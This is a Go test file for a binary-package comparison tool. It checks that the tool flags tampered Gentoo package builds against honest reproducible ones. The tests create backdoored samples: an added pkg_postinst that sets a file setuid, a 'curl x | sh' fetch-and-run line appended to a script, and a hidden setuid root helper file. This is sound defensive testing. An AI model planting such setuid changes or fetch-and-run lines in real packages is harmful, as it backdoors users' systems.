package identity

import (
	"archive/tar"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	embedded "github.com/gentoo-p2p/gentoo-p2pd/internal/fixtures"
	"github.com/gentoo-p2p/gentoo-p2pd/xpak"
)

const layoutGPKG = "app-misc/layout-1.0-r1.gpkg.tar"

// fixtureFile writes one binpkg of an embedded fixture set into a temporary
// directory and returns its path.
func fixtureFile(t *testing.T, set, name string) string {
	t.Helper()
	b, err := embedded.Read(set, name)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), filepath.Base(name))
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestCompareSameContent: independent builds of one build key with the
// same content (and the same build as XPAK and GPKG) differ in nothing a
// comparison reports, although their files, BUILD_TIMEs and host
// variables differ.
func TestCompareSameContent(t *testing.T) {
	for _, tc := range []struct{ name, a, b string }{
		{"two gpkg builds", fixtureFile(t, embedded.ReproGPKG1, layoutGPKG), fixtureFile(t, embedded.ReproGPKG2, layoutGPKG)},
		{"gpkg and xpak", fixtureFile(t, embedded.ReproGPKG1, layoutGPKG), fixtureFile(t, embedded.ReproXPAK2, "app-misc/layout-1.0-r1.tbz2")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, err := CompareFiles(tc.a, tc.b, xpak.Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if c.EntriesDiffer != 0 || c.MetadataDiffer != 0 || len(c.Entries) != 0 || len(c.Metadata) != 0 {
				t.Fatalf("same content reported as different: %+v", c)
			}
		})
	}
}

// TestCompareBackdoored: the crafted trojaned layout has the honest image
// and a pkg_postinst added to environment.bz2 (and "postinst" to
// DEFINED_PHASES): the comparison names exactly those two records.
func TestCompareBackdoored(t *testing.T) {
	honest := fixtureFile(t, embedded.ReproGPKG1, layoutGPKG)
	bad := fixtureFile(t, embedded.Backdoored, layoutGPKG)
	c, err := CompareFiles(honest, bad, xpak.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if c.EntriesDiffer != 0 {
		t.Errorf("image entries differ: %v", c.Entries)
	}
	want := []MetadataChange{
		{Kind: RecordFunction, Name: "pkg_postinst", Change: ChangeAdded},
		{Kind: RecordKey, Name: "DEFINED_PHASES", Change: ChangeDiffers},
	}
	if !slices.Equal(c.Metadata, want) || c.MetadataDiffer != len(want) {
		t.Fatalf("metadata changes %v (%d), want %v", c.Metadata, c.MetadataDiffer, want)
	}
	if got := c.Metadata[0].String(); got != "function pkg_postinst added" {
		t.Errorf("rendered %q", got)
	}
	// The other way round, the honest build removes what the trojan added.
	back, err := CompareFiles(bad, honest, xpak.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if back.Metadata[0] != (MetadataChange{Kind: RecordFunction, Name: "pkg_postinst", Change: ChangeRemoved}) {
		t.Errorf("reverse comparison: %v", back.Metadata)
	}
}

// rewrite writes a GPKG with src's metadata after editEnv changed its
// environment text, and src's image after editImage changed its entries
// (a nil edit keeps them).
func rewrite(t *testing.T, src string, editEnv func(string) string, editImage func(hdr *tar.Header, content []byte) (*tar.Header, []byte)) string {
	t.Helper()
	pkg, err := xpak.ReadFile(src, xpak.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	raw := map[string][]byte{}
	for _, k := range pkg.Metadata.Keys() {
		v, _ := pkg.Metadata.Raw(k)
		raw[k] = v
	}
	if editEnv != nil {
		text, err := DecompressEnvironment(raw[environmentKey])
		if err != nil {
			t.Fatal(err)
		}
		edited := editEnv(string(text))
		if edited == string(text) {
			t.Fatal("the environment edit changed nothing")
		}
		if raw[environmentKey], err = compressEnvironment([]byte(edited)); err != nil {
			t.Fatal(err)
		}
	}
	type entry struct {
		hdr     *tar.Header
		content []byte
	}
	var entries []entry
	err = xpak.WalkImageFile(src, xpak.Limits{}, func(e xpak.ImageEntry, r io.Reader) error {
		hdr, err := xpak.ServedHeader(e)
		if err != nil {
			return err
		}
		b, err := io.ReadAll(r)
		if err != nil {
			return err
		}
		if editImage != nil {
			if hdr, b = editImage(hdr, b); hdr == nil {
				return nil
			}
		}
		entries = append(entries, entry{hdr, b})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if editImage != nil {
		// The edit may add one entry, given as a header named "+…".
		if hdr, b := editImage(&tar.Header{Name: "+"}, nil); hdr != nil {
			entries = append(entries, entry{hdr, b})
		}
	}
	out := filepath.Join(t.TempDir(), filepath.Base(src))
	f, err := os.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	err = xpak.WriteGPKG(f, xpak.GPKGOptions{Basename: "layout-1.0-r1", MTime: time.Unix(1700000000, 0), TempDir: t.TempDir()},
		xpak.NewMetadata(raw), func(add xpak.ImageAdder) error {
			for _, e := range entries {
				if err := add(e.hdr, bytes.NewReader(e.content)); err != nil {
					return err
				}
			}
			return nil
		})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestCompareChangedPostinst: a third builder's pkg_postinst differs from
// the backdoored one's (metadata only): one function differs, the image
// is the same.
func TestCompareChangedPostinst(t *testing.T) {
	bad := fixtureFile(t, embedded.Backdoored, layoutGPKG)
	other := rewrite(t, bad, func(env string) string {
		i := strings.Index(env, "pkg_postinst () \n{")
		if i < 0 {
			t.Fatal("no pkg_postinst in the backdoored environment")
		}
		return env[:i] + strings.Replace(env[i:], "{ \n", "{ \n    chmod u+s /usr/bin/layout-run;\n", 1)
	}, nil)
	c, err := CompareFiles(bad, other, xpak.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := []MetadataChange{{Kind: RecordFunction, Name: "pkg_postinst", Change: ChangeDiffers}}
	if !slices.Equal(c.Metadata, want) || c.EntriesDiffer != 0 {
		t.Fatalf("changes %+v, want only %v", c, want)
	}
}

// TestCompareImage: a build whose image adds a file, drops one, and
// changes another's mode and content lists each entry with what differs.
func TestCompareImage(t *testing.T) {
	honest := fixtureFile(t, embedded.ReproGPKG1, layoutGPKG)
	other := rewrite(t, honest, nil, func(hdr *tar.Header, b []byte) (*tar.Header, []byte) {
		switch hdr.Name {
		case "+":
			return &tar.Header{Name: "usr/bin/.helper", Typeflag: tar.TypeReg, Mode: 0o4755, Size: 5, Uname: "root", Gname: "root"}, []byte("evil\n")
		case "usr/libexec/layout/run.sh":
			b = append(b, "curl x | sh\n"...)
			hdr.Mode, hdr.Size = 0o4755, int64(len(b))
		case "etc/layout/layout.conf":
			return nil, nil
		}
		return hdr, b
	})
	c, err := CompareFiles(honest, other, xpak.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if c.MetadataDiffer != 0 {
		t.Errorf("metadata differs: %v", c.Metadata)
	}
	var lines []string
	for _, e := range c.Entries {
		lines = append(lines, e.String())
	}
	got := strings.Join(lines, "\n")
	for _, want := range []string{
		"- etc/layout/layout.conf: file 0644 root:root, 10 bytes, sha256 ",
		"+ usr/bin/.helper: file 4755 root:root, 5 bytes, sha256 ",
		"~ usr/libexec/layout/run.sh: mode 0755 → 4755, size 19 → 31, content sha256 ",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in\n%s", want, got)
		}
	}
	if c.EntriesDiffer != 3 || len(c.Entries) != 3 {
		t.Errorf("%d entries differ (%d listed), want 3:\n%s", c.EntriesDiffer, len(c.Entries), got)
	}
	// Sorted by name.
	if !slices.IsSortedFunc(c.Entries, func(a, b EntryChange) int { return strings.Compare(a.Name, b.Name) }) {
		t.Errorf("not sorted:\n%s", got)
	}
}

// TestCompareCapped: more changes than MaxListedChanges are counted, and
// only MaxListedChanges listed.
func TestCompareCapped(t *testing.T) {
	this := map[string]entryState{}
	other := map[string]entryState{}
	for i := range MaxListedChanges + 7 {
		other[string(rune('a'+i%26))+strings.Repeat("x", i)] = entryState{typ: xpak.TypeDir, mode: 0o755}
	}
	list, n := compareImages(this, other)
	if n != MaxListedChanges+7 || len(list) != MaxListedChanges {
		t.Fatalf("%d counted, %d listed", n, len(list))
	}
}

// TestCompareBadFile: a file that is no binpkg is an error naming it, not
// an empty comparison.
func TestCompareBadFile(t *testing.T) {
	junk := filepath.Join(t.TempDir(), "junk.gpkg.tar")
	if err := os.WriteFile(junk, []byte("not a package"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := CompareFiles(fixtureFile(t, embedded.ReproGPKG1, layoutGPKG), junk, xpak.Limits{}); err == nil {
		t.Fatal("a junk file compared")
	}
}
